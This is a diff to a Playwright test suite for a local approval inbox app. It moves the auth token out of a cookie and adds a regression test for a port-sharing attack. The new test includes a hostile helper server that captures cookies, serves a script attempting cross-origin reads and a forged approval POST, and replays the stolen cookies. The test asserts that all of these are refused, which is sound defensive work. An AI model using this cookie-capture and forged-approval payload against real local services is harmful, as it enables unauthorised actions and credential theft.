@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import json
 import os
+import re
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
@@ -83,8 +84,8 @@ def test_a_park_appears_live_shows_every_argument_and_is_approved_or_denied(
     page: Any, served: Served, butler: Any, script: Any, workdir: Path, butler_home: Path
 ) -> None:
     page.goto(served.url)
-    assert "token" not in page.url  # the token went into a cookie; the address is clean
     page.get_by_text("No parks awaiting a decision.").wait_for()
+    assert page.context.cookies() == []  # the token is in the page and its links, no cookie
 
     first = park(butler, script, "plan.txt", LONG)
     second = park(butler, script, "notes.txt", "nothing much")
@@ -124,8 +125,9 @@ def test_a_park_appears_live_shows_every_argument_and_is_approved_or_denied(
     shown_park = json.loads(butler("show", second, "--json").stdout)
     assert shown_park["decision"] == {"approved": False, "note": "not today, thanks"}
 
-    # The park's page: what `butler show` shows, and its audit trail.
-    page.goto(f"{served.base}/park/{second}")
+    # The park's page (its link carries the token): what `butler show` shows, its audit trail.
+    page.locator("#outcomes a", has_text=second).first.click()
+    page.locator("table.audit").wait_for()
     trail = page.locator("table.audit").inner_text()
     assert "verdict" in trail and "decision" in trail and "not today, thanks" in trail
     assert all(url.startswith(served.base) for url in page.seen), page.seen
@@ -137,7 +139,7 @@ def test_two_tabs_and_the_terminal_decide_once(
     pid = park(butler, script, "once.txt", "one")
     page.goto(served.url)
     other = page.context.new_page()
-    other.goto(served.base + "/")
+    other.goto(served.url)
     other.locator(f"#park-{pid}").wait_for()
     # A tab left open from before: its view is stale (its refresh stopped), its card still there.
     other.evaluate("() => { for (let i = 1; i < 10000; i++) clearInterval(i); }")
@@ -175,4 +177,106 @@ def test_no_token_and_a_wrong_csrf_token_are_refused_in_the_browser(
     )
     assert status == 403
     assert not (workdir / "guarded.txt").exists()
+    assert [p["id"] for p in json.loads(butler("pending", "--json").stdout)] == [pid]
+
+
+class OtherPort:
+    """A real HTTP server on another 127.0.0.1 port: it records every Cookie header a browser
+    sends it, and serves a page whose script tries to read the inbox and approve ``park``."""
+
+    def __init__(self, inbox: str, park: str) -> None:
+        import threading
+        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+        self.cookies: list[str] = []
+        self.reports: list[dict[str, Any]] = []
+        owner = self
+        script = """
+(async () => {
+  const out = {};
+  try {
+    const r = await fetch(INBOX + "/", {credentials: "include"});
+    out.read = r.status + " " + (await r.text()).slice(0, 300);
+  } catch (e) { out.read = "blocked: " + e; }
+  try {
+    await fetch(INBOX + "/park/" + PARK + "/decide", {method: "POST", mode: "no-cors",
+      credentials: "include", body: new URLSearchParams({decision: "approve"})});
+    out.post = "sent";
+  } catch (e) { out.post = "blocked: " + e; }
+  await fetch("/report", {method: "POST", body: JSON.stringify(out)});
+  document.title = "done";
+})();
+""".replace("INBOX", json.dumps(inbox)).replace("PARK", json.dumps(park))
+        page = f"<!doctype html><title>other</title><script>{script}</script>".encode()
+
+        class Handler(BaseHTTPRequestHandler):
+            def _cookie(self) -> None:
+                if self.headers.get("Cookie"):
+                    owner.cookies.append(self.headers["Cookie"])
+
+            def do_GET(self) -> None:  # noqa: N802
+                self._cookie()
+                self.send_response(200)
+                self.send_header("Content-Type", "text/html")
+                self.send_header("Content-Length", str(len(page)))
+                self.end_headers()
+                self.wfile.write(page)
+
+            def do_POST(self) -> None:  # noqa: N802
+                self._cookie()
+                body = self.rfile.read(int(self.headers["Content-Length"]))
+                owner.reports.append(json.loads(body))
+                self.send_response(204)
+                self.end_headers()
+
+            def log_message(self, *args: object) -> None:
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.server.daemon_threads = True
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/"
+
+    def close(self) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def test_another_port_on_this_host_gets_no_credential_and_decides_nothing(
+    page: Any, served: Served, butler: Any, script: Any, workdir: Path
+) -> None:
+    """Cookies ignore ports: with the inbox open, the same browser visiting another server on
+    127.0.0.1 sent it the inbox's token cookie, and that server approved a park with it. Now
+    the other server receives no credential; its page cannot read the inbox (nor its CSRF
+    token) nor approve; replaying every cookie it received, server-side with the inbox's own
+    Host, is refused; the park stays pending and nothing is written."""
+    pid = park(butler, script, "stolen.txt", "x")
+    page.goto(served.url)
+    page.locator(f"#park-{pid}").wait_for()  # the person has the inbox open and working
+    assert page.context.cookies() == []  # the credential is kept in no cookie at all
+    other = OtherPort(served.base, pid)
+    try:
+        page.goto(other.url)
+        page.wait_for_function("document.title === 'done'")
+        eventually(lambda: len(other.reports) == 1)
+        report = other.reports[0]
+        assert report["read"].startswith("blocked"), report  # the page is not readable there
+        attempts = []
+        for header in other.cookies:  # what a server does with whatever it received
+            for pair in header.split(";"):
+                value = pair.strip().partition("=")[2]
+                for sent in ({"Cookie": pair.strip()}, {"Authorization": f"Bearer {value}"}):
+                    status, body = served.request("/", token=None, headers=sent)
+                    found = re.search(r"name='csrf-token' content='([^']+)'", body)
+                    csrf = {"X-CSRF-Token": found.group(1) if found else "unknown"}
+                    decided = served.request(
+                        f"/park/{pid}/decide", data={"decision": "approve"}, token=None,
+                        headers={**sent, **csrf},
+                    )  # fmt: skip
+                    attempts.append((status, decided))
+        assert all(a[0] == 403 and a[1][0] == 403 for a in attempts), attempts
+        assert other.cookies == []  # nothing at all reached it
+    finally:
+        other.close()
+    assert not (workdir / "stolen.txt").exists()
     assert [p["id"] for p in json.loads(butler("pending", "--json").stdout)] == [pid]
